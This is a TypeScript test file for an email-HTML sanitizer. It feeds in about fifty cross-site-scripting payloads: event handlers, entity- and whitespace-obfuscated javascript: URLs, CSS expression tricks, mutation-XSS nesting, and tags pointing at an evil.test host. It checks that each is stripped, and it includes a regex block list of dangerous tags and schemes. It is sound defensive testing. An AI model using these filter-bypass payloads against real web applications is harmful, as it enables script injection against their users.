import { describe, expect, it } from 'vitest';
import { blocksToHtml, EMAIL_BLOCK_TYPES, type EmailBlock } from '../contract/email-blocks';
import { sanitizeEmailHtml } from './sanitize';

/**
 * What a browser would make of the output's attribute values and text: character references
 * decoded (named ones an attacker uses too), control characters and white space a URL parser
 * ignores removed. Whatever is left must not hold a script scheme, a handler or a script element.
 */
function decoded(html: string): string {
  return (
    html
      .replace(/&#x([0-9a-f]+);?/gi, (_m, hex: string) => String.fromCodePoint(parseInt(hex, 16)))
      .replace(/&#(\d+);?/g, (_m, dec: string) => String.fromCodePoint(Number(dec)))
      .replace(/&colon;/gi, ':')
      .replace(/&tab;|&newline;/gi, '')
      .replace(
        /&(lt|gt|quot|amp);/gi,
        (_m, name: string) => ({ lt: '<', gt: '>', quot: '"', amp: '&' })[name.toLowerCase()]!,
      )
      // eslint-disable-next-line no-control-regex -- the control characters a URL parser skips are the point
      .replace(/[\u0000-\u0020]+/g, '')
  );
}

function expectHarmless(output: string) {
  // Markup left in the output (references are text, never tags): no script-capable element, no handler.
  expect(output).not.toMatch(/<\s*(script|style|iframe|object|embed|form|input|svg|math|base|meta|link|frame)/i);
  expect(output).not.toMatch(/\son[a-z]+\s*=/i);
  // Attribute values as the browser reads them.
  for (const [, name, value] of output.matchAll(/\s([a-z-]+)="([^"]*)"/gi)) {
    const plain = decoded(value!).toLowerCase();
    expect(plain, `${name}="${value}"`).not.toMatch(/javascript:|vbscript:|data:|expression|url\(/);
  }
}

describe('sanitizeEmailHtml with hostile HTML', () => {
  it.each([
    ['<script>alert(1)</script><p>Hi</p>', '<p>Hi</p>'],
    ['<SCRIPT SRC=https://evil.test/x.js></SCRIPT><p>Hi</p>', '<p>Hi</p>'],
    ['<p>Hi<style>p{background:url(javascript:alert(1))}</style></p>', '<p>Hi</p>'],
    ['<iframe src="https://evil.test">fallback <b>text</b></iframe>after', 'after'],
    ['<object data="https://evil.test/x.swf"><param name=a value=b>inside</object>after', 'after'],
    ['<embed src="https://evil.test/x.swf">after', 'after'],
    ['<form action="https://evil.test"><input name="card">Pay here<button>Go</button></form>', 'Pay hereGo'],
    ['<svg onload=alert(1)><circle r="5"/></svg>after', 'after'],
    ['<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', ''],
    ['<img src=x onerror=alert(1)>', '<img>'],
    [
      '<IMG SRC="https://example.com/a.png" OnError="alert(1)" onload=alert(2)>',
      '<img src="https://example.com/a.png">',
    ],
    ['<p onclick="alert(1)" ONMOUSEOVER=alert(2) style="color:red">Hi</p>', '<p style="color:red">Hi</p>'],
    ['<a href="javascript:alert(1)">x</a>', '<a>x</a>'],
    ['<a href="JaVaScRiPt:alert(1)">x</a>', '<a>x</a>'],
    ['<a href="&#106;avascript:alert(1)">x</a>', '<a>x</a>'],
    ['<a href="&#x6A;&#x61;vascript&colon;alert(1)">x</a>', '<a>x</a>'],
    ['<a href="&#0000106&#0000097vascript:alert(1)">x</a>', '<a>x</a>'],
    ['<a href="jav&#x09;ascript:alert(1)">x</a>', '<a>x</a>'],
    ['<a href="java\nscript:alert(1)">x</a>', '<a>x</a>'],
    ['<a href="java\tscript:alert(1)">x</a>', '<a>x</a>'],
    ['<a href="  javascript:alert(1)">x</a>', '<a>x</a>'],
    ['<a href="\u0001javascript:alert(1)">x</a>', '<a>x</a>'],
    ['<a href="vbscript:msgbox(1)">x</a>', '<a>x</a>'],
    ['<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>', '<a>x</a>'],
    ['<a href="//evil.test/">x</a>', '<a>x</a>'],
    ['<a href="relative/page">x</a>', '<a>x</a>'],
    ['<a href="{{bookingUrl}}javascript:alert(1)">x</a>', '<a>x</a>'],
    ['<img src="data:image/svg+xml;base64,PHN2Zz4=">', '<img>'],
    ['<img src="mailto:a@example.com">', '<img>'],
    ['<div style="width: expression(alert(1))">x</div>', '<div>x</div>'],
    ['<div style="width: EXPRESSION (alert(1))">x</div>', '<div>x</div>'],
    ['<div style="width: expr/**/ession(alert(1))">x</div>', '<div>x</div>'],
    ['<div style="width: \\65xpression(alert(1))">x</div>', '<div>x</div>'],
    ['<div style="background:url(https://evil.test/track.png)">x</div>', '<div>x</div>'],
    ['<div style="background:URL (javascript:alert(1))">x</div>', '<div>x</div>'],
    ['<div style="background:u&#114;l(javascript:alert(1))">x</div>', '<div>x</div>'],
    ['<div style="behavior: url(x.htc); -moz-binding: url(x.xml#x)">x</div>', '<div>x</div>'],
    ['<p>ok</p><!-- <script>alert(1)</script> -->', '<p>ok</p>'],
    ['<!--[if IE]><script>alert(1)</script><![endif]--><p>ok</p>', '<p>ok</p>'],
    ['<![CDATA[<script>alert(1)</script>]]><p>ok</p>', '<p>ok</p>'],
    ['<base href="https://evil.test/"><p>ok</p>', '<p>ok</p>'],
    ['<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><p>ok</p>', '<p>ok</p>'],
    ['<link rel="stylesheet" href="https://evil.test/x.css"><p>ok</p>', '<p>ok</p>'],
    ['<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', ''],
    ['<p>unclosed <b>bold <i>italic', '<p>unclosed <b>bold <i>italic</i></b></p>'],
    // A stray </p> makes an empty paragraph, as a browser does.
    ['<div><p>a</div>b</p>', '<div><p>a</p></div>b<p></p>'],
    ['<scr<script>ipt>alert(1)</script>', 'ipt&gt;alert(1)'],
    ['<<script>alert(1)//<</script>', '&lt;'],
    ['<p title="x" class="evil" id="evil" data-x="1">Hi</p>', '<p>Hi</p>'],
    ['<td background="javascript:alert(1)">x</td>', '<td>x</td>'],
    [
      '<a href="https://example.com" target="_blank" ping="https://evil.test">x</a>',
      '<a href="https://example.com">x</a>',
    ],
  ])('%j becomes %j', (input, expected) => {
    const output = sanitizeEmailHtml(input);
    expect(output).toBe(expected);
    expectHarmless(output);
  });

  it('keeps an image whose alt text looks like markup, as text', () => {
    const output = sanitizeEmailHtml('<img alt="&quot;><script>alert(1)</script>" src="https://example.com/a.png">');
    expect(output).toBe('<img alt="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;" src="https://example.com/a.png">');
    expectHarmless(output);
  });

  it('keeps markup written as text as text', () => {
    expect(sanitizeEmailHtml('<p>&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62; 5 < 6 & 7 > 3 &lt</p>')).toBe(
      '<p>&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62; 5 &lt; 6 &amp; 7 &gt; 3 &amp;lt</p>',
    );
  });

  it('keeps the allowed addresses and `{{variable}}` placeholders in text, href and src', () => {
    const html =
      '<p>Hi {{clientFirstName}}, see you on {{ appointmentDate }}</p>' +
      '<a href="{{bookingUrl}}">Book</a> <a href="{{siteUrl}}/book?x=1&amp;y=2">Site</a> ' +
      '<a href="https://example.com/{{invoiceNumber}}">Invoice</a> <a href="http://example.com">Web</a> ' +
      '<a href="mailto:{{organizationEmail}}">Mail</a> <a href="tel:{{organizationPhone}}">Call</a>' +
      '<img src="{{logoUrl}}" alt=""><img src="https://example.com/a.png" alt="Logo" width="120">';
    expect(sanitizeEmailHtml(html)).toBe(html);
  });

  it('trims the space around an address it keeps', () => {
    expect(sanitizeEmailHtml('<a href="  https://example.com  ">x</a>')).toBe('<a href="https://example.com">x</a>');
  });

  it('is idempotent on what it gives back', () => {
    const hostile =
      '<div style="color:red" onclick=x><p>Don\'t <b>stop & go</b><br/><img src=https://e.test/a.png alt=\'a "b"\'>' +
      '<a href=" https://e.test ">l</a><ul><li>one<li>two</ul></div><table><tbody><tr><td align=center>c</td></tr></tbody></table>';
    const once = sanitizeEmailHtml(hostile);
    expect(sanitizeEmailHtml(once)).toBe(once);
    expectHarmless(once);
  });
});

describe('sanitizeEmailHtml and the block builder', () => {
  const everyBlock: EmailBlock[] = [
    { type: 'heading1', content: 'Hello {{clientFirstName}} & "friends" <3\nsecond line' },
    { type: 'heading2', content: 'It’s your appointment' },
    { type: 'paragraph', content: "Don't forget: {{appointmentDate}} at {{appointmentTime}}." },
    {
      type: 'richtext',
      content:
        '<b>Bold</b> <strong>strong</strong> <i>it</i> <em>em</em> <u>u</u> <span style="color:#667eea">span</span>' +
        '<br><a href="https://example.com/?a=1&amp;b=2">link</a><ul><li>one</li></ul><ol><li>two</li></ol><hr>',
    },
    { type: 'divider' },
    { type: 'button', buttonText: 'Book now', buttonUrl: 'https://example.com/book?x=1&y=2' },
    { type: 'button', buttonText: 'Your booking', buttonUrl: '{{bookingUrl}}' },
    { type: 'link', content: 'Call us', url: 'tel:+61 400 000 000' },
    { type: 'link', content: 'Write to us', url: 'mailto:hello@example.com' },
    { type: 'image', imageUrl: 'https://example.com/salon.png', imageAlt: "Ana's salon" },
    { type: 'image', imageUrl: '{{logoUrl}}', imageAlt: '' },
    { type: 'variable', variableName: 'organizationName' },
  ];

  it('covers every block type', () => {
    expect(new Set(everyBlock.map((block) => block.type))).toEqual(new Set(EMAIL_BLOCK_TYPES));
  });

  it('changes nothing in what the builder writes, in the default colours or a brand’s', () => {
    for (const html of [
      blocksToHtml(everyBlock),
      blocksToHtml(everyBlock, { primary: '#0f766e', secondary: '#134e4a' }),
    ]) {
      expect(sanitizeEmailHtml(html)).toBe(html);
    }
  });
});
